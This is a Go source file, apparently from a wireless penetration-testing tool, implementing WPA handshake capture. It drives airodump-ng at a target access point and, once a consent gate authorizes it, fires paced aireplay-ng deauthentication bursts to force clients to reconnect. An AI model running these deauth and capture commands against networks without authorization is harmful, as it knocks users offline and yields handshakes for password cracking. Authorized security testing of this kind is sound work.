// Package capture implements handshake capture: a targeted airodump-ng
// capture with optional deauthentication bursts, followed by EAPOL
// verification of the artifact. The consent gate runs before anything
// that injects traffic; denial cancels the run instead of failing it.
package capture

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/time/rate"

	"github.com/darcy0x/nethawk/internal/consent"
	"github.com/darcy0x/nethawk/internal/finding"
	"github.com/darcy0x/nethawk/internal/module"
	"github.com/darcy0x/nethawk/internal/session"
	"github.com/darcy0x/nethawk/internal/toolkit"
	"github.com/darcy0x/nethawk/internal/wireless"
)

const (
	defaultWindow   = 2 * time.Minute
	defaultAttempts = 3
	defaultBursts   = 3
	defaultCount    = 5
	defaultInterval = 5 * time.Second
)

// Deps wires the module to the engine's shared components.
type Deps struct {
	Runner   module.Runner
	Tools    module.Tools
	Wireless *wireless.Manager
	Locks    *wireless.LockTable
	Session  *session.Session
	Gate     consent.Gate
	Logger   *slog.Logger

	// Verify re-parses a capture artifact for EAPOL exchanges. Nil uses
	// wireless.VerifyCapture; tests substitute canned observations.
	Verify func(path string) ([]wireless.HandshakeObservation, error)

	OnProgress func(string)
}

// Module is the handshake capture workflow.
type Module struct {
	deps Deps
}

var _ module.Module = (*Module)(nil)

// New creates the module. A nil Gate denies everything, which is the
// safe default.
func New(deps Deps) *Module {
	if deps.Logger == nil {
		deps.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	if deps.Gate == nil {
		deps.Gate = &consent.Static{}
	}
	if deps.Verify == nil {
		deps.Verify = wireless.VerifyCapture
	}
	if deps.OnProgress == nil {
		deps.OnProgress = func(string) {}
	}
	return &Module{deps: deps}
}

// Name implements module.Module.
func (m *Module) Name() string { return module.NameCapture }

// Run drives idle -> consent_check -> monitor_mode_enabling ->
// capturing -> deauth_burst? -> handshake_verification -> done. A
// capture whose artifact never shows a usable handshake fails with the
// specific "no handshake captured" reason.
func (m *Module) Run(ctx context.Context, target module.Target, opts module.Options) (*module.Result, error) {
	if err := target.RequireInterface(); err != nil {
		return nil, err
	}
	if err := target.RequireBSSID(); err != nil {
		return nil, err
	}
	opts = withDefaults(opts)

	mach := module.NewMachine(module.NameCapture)
	var warnings []string

	required := []string{toolkit.ToolAirodump}
	if opts.Deauth {
		required = append(required, toolkit.ToolAireplay)
	}
	if missing := m.deps.Tools.Missing(required...); len(missing) > 0 {
		mach.Fail(fmt.Sprintf("required tools not installed: %s", strings.Join(missing, ", ")))
		return finish(mach, nil, warnings), nil
	}

	// ---- consent_check ----
	// Mandatory and first: nothing below may inject traffic unless the
	// gate said yes.
	mach.To(module.StateConsentCheck)
	if opts.Deauth {
		if err := m.deps.Gate.Authorize(consent.OpDeauth, target.String()); err != nil {
			mach.Cancel(err.Error())
			return finish(mach, nil, warnings), nil
		}
	}

	owner := module.NameCapture + ":" + m.deps.Session.ID
	if err := m.deps.Locks.Acquire(target.Interface, owner); err != nil {
		mach.Fail(err.Error())
		return finish(mach, nil, warnings), nil
	}
	defer m.deps.Locks.Release(target.Interface, owner)

	// ---- monitor_mode_enabling ----
	mach.To(module.StateMonitorModeEnabling)
	for _, proc := range m.deps.Wireless.CheckInterferers(ctx) {
		warnings = append(warnings, fmt.Sprintf("process may interfere with capture: %s (pid %d)", proc.Name, proc.PID))
	}

	mon, err := m.deps.Wireless.EnableMonitor(ctx, target.Interface)
	if err != nil {
		if ctx.Err() != nil {
			mach.Cancel("cancelled while enabling monitor mode")
		} else {
			mach.Fail(err.Error())
		}
		return finish(mach, nil, warnings), nil
	}
	defer func() {
		restoreCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		if err := mon.Restore(restoreCtx); err != nil {
			m.deps.Logger.Warn("interface restore failed", "interface", target.Interface, "error", err)
		}
	}()

	// ---- capturing ----
	mach.To(module.StateCapturing)
	m.deps.OnProgress(fmt.Sprintf("capturing handshake for %s on channel %d", target.BSSID, target.Channel))

	name := m.deps.Session.ArtifactName("handshake", "")
	prefix := filepath.Join(m.deps.Session.Dir(session.DirCaptures), name)
	capPath := prefix + "-01.cap"
	capRel := filepath.Join(session.DirCaptures, name+"-01.cap")

	capCtx, stopCapture := context.WithTimeout(ctx, opts.Window)
	defer stopCapture()

	args := []string{"--bssid", target.BSSID}
	if target.Channel != 0 {
		args = append(args, "--channel", strconv.Itoa(target.Channel))
	}
	args = append(args, "--write", prefix, "--output-format", "pcap", mon.MonitorInterface)

	capDone := make(chan error, 1)
	go func() {
		_, err := m.deps.Runner.Run(capCtx, toolkit.RunSpec{
			Tool: toolkit.ToolAirodump,
			Path: m.deps.Tools.Describe(toolkit.ToolAirodump).Path,
			Args: args,
		})
		capDone <- err
	}()

	// ---- deauth_burst ----
	if opts.Deauth {
		mach.To(module.StateDeauthBurst)
		m.sendBursts(capCtx, target, mon.MonitorInterface, opts, &warnings)
	}

	// ---- handshake_verification ----
	mach.To(module.StateHandshakeVerification)
	observations := m.waitForHandshake(capCtx, capPath, target.BSSID, opts)

	stopCapture()
	if err := <-capDone; err != nil {
		var spawn *toolkit.SpawnError
		if errors.As(err, &spawn) {
			mach.Fail(err.Error())
			return finish(mach, nil, warnings), nil
		}
	}
	if ctx.Err() != nil {
		mach.Cancel("cancelled during capture")
		return finish(mach, nil, warnings), nil
	}

	// The capture tool flushes on termination; one final pass over the
	// finished artifact.
	if obs, err := m.verify(capPath); err == nil {
		observations = obs
	} else if !errors.Is(err, os.ErrNotExist) {
		warnings = append(warnings, err.Error())
	}

	obs, ok := wireless.CompleteHandshake(observations, target.BSSID)
	if !ok {
		mach.Fail("no handshake captured")
		return finish(mach, nil, warnings), nil
	}

	f := finding.New(m.deps.Session.ID, finding.KindHandshake, toolkit.ToolAirodump)
	f.NaturalKey = finding.HandshakeKey(target.BSSID)
	f.Origin = capRel
	f.Severity = finding.SeverityMedium
	f.Handshake = &finding.Handshake{
		BSSID:       strings.ToLower(target.BSSID),
		ESSID:       target.ESSID,
		Station:     obs.Station,
		CapturePath: capPath,
		Messages:    obs.Messages,
		Complete:    true,
	}
	if err := m.deps.Session.SaveFinding(ctx, &f); err != nil {
		mach.Fail(fmt.Sprintf("persist finding: %v", err))
		return finish(mach, []finding.Finding{f}, warnings), nil
	}

	mach.Done(fmt.Sprintf("handshake captured from %s", obs.Station))
	return finish(mach, []finding.Finding{f}, warnings), nil
}

// sendBursts fires paced deauthentication bursts at the target. Burst
// failures degrade to warnings; the capture itself decides success.
func (m *Module) sendBursts(ctx context.Context, target module.Target, iface string, opts module.Options, warnings *[]string) {
	limiter := rate.NewLimiter(rate.Every(opts.DeauthInterval), 1)
	for i := 0; i < opts.DeauthBursts; i++ {
		if err := limiter.Wait(ctx); err != nil {
			return
		}
		m.deps.OnProgress(fmt.Sprintf("deauth burst %d/%d against %s", i+1, opts.DeauthBursts, target.BSSID))
		inv, err := m.deps.Runner.Run(ctx, toolkit.RunSpec{
			Tool:    toolkit.ToolAireplay,
			Path:    m.deps.Tools.Describe(toolkit.ToolAireplay).Path,
			Args:    []string{"--deauth", strconv.Itoa(opts.DeauthCount), "-a", target.BSSID, iface},
			Timeout: 30 * time.Second,
		})
		if err != nil {
			*warnings = append(*warnings, fmt.Sprintf("deauth burst %d: %v", i+1, err))
			continue
		}
		if inv.ExitCode != 0 {
			*warnings = append(*warnings, fmt.Sprintf("deauth burst %d: aireplay-ng exit %d", i+1, inv.ExitCode))
		}
	}
}

// waitForHandshake polls the growing capture file until a complete
// exchange appears or the window closes.
func (m *Module) waitForHandshake(ctx context.Context, capPath, bssid string, opts module.Options) []wireless.HandshakeObservation {
	interval := opts.Window / time.Duration(opts.VerifyAttempts+1)
	var observations []wireless.HandshakeObservation

	for attempt := 0; attempt < opts.VerifyAttempts; attempt++ {
		select {
		case <-ctx.Done():
			return observations
		case <-time.After(interval):
		}
		obs, err := m.verify(capPath)
		if err != nil {
			continue
		}
		observations = obs
		if _, ok := wireless.CompleteHandshake(observations, bssid); ok {
			return observations
		}
	}
	return observations
}

func (m *Module) verify(path string) ([]wireless.HandshakeObservation, error) {
	if _, err := os.Stat(path); err != nil {
		return nil, fmt.Errorf("capture: %w", err)
	}
	return m.deps.Verify(path)
}

func withDefaults(opts module.Options) module.Options {
	if opts.Window <= 0 {
		opts.Window = defaultWindow
	}
	if opts.VerifyAttempts <= 0 {
		opts.VerifyAttempts = defaultAttempts
	}
	if opts.DeauthBursts <= 0 {
		opts.DeauthBursts = defaultBursts
	}
	if opts.DeauthCount <= 0 {
		opts.DeauthCount = defaultCount
	}
	if opts.DeauthInterval <= 0 {
		opts.DeauthInterval = defaultInterval
	}
	return opts
}

func finish(mach *module.Machine, findings []finding.Finding, warnings []string) *module.Result {
	res := mach.Result()
	res.Findings = findings
	res.Warnings = warnings
	return res
}
